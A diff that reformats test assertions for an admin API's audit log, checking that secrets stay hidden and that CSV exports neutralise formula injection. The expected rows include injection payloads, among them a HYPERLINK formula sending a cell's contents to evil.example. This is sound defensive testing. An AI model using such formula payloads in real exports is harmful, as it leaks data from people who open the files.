@@ -62,7 +62,10 @@ describe('the audit log over the admin API', () => {
     ]);
     expect(items[4]).toMatchObject({ target: 'bot:quick-lead', details: { version: 2 }, actor: { kind: 'token', name: 'admin token' }, address: '127.0.0.1' });
     expect(items[3]).toMatchObject({ details: { version: 1 } });
-    expect(items[2]).toMatchObject({ target: 'integration:crm', details: { provider: 'zoho', settings: { dc: 'jp', clientId: '1000.CLIENT' }, secretsChanged: true } });
+    expect(items[2]).toMatchObject({
+      target: 'integration:crm',
+      details: { provider: 'zoho', settings: { dc: 'jp', clientId: '1000.CLIENT' }, secretsChanged: true },
+    });
     expect(res.body).not.toMatch(/very-secret|refresh-secret/);
 
     expect((await s.admin({ url: '/api/v1/admin/audit?action=bot.save' })).json().total).toBe(2);
@@ -84,16 +87,7 @@ describe('the audit log over the admin API', () => {
     const rows = parseCsv(res.body);
     expect(rows[0]).toEqual(['at', 'action', 'actor_kind', 'actor_id', 'actor_name', 'address', 'target', 'details']);
     const names = rows.slice(1).map((r) => r[4]);
-    expect(names).toEqual([
-      'Agent "Mio", 山田',
-      "'＝1+1",
-      "'\r=1",
-      "'\t=1",
-      "'@cmd",
-      "'-1+2",
-      "'+SUM(1,1)",
-      '\'=HYPERLINK("http://evil.example/?x="&B2)',
-    ]);
+    expect(names).toEqual(['Agent "Mio", 山田', "'＝1+1", "'\r=1", "'\t=1", "'@cmd", "'-1+2", "'+SUM(1,1)", '\'=HYPERLINK("http://evil.example/?x="&B2)']);
     for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
     const exports = (await s.admin({ url: '/api/v1/admin/audit?action=audit.export' })).json();
     expect(exports.items).toEqual([expect.objectContaining({ details: { filter: { action: 'account.sign_in' } } })]);
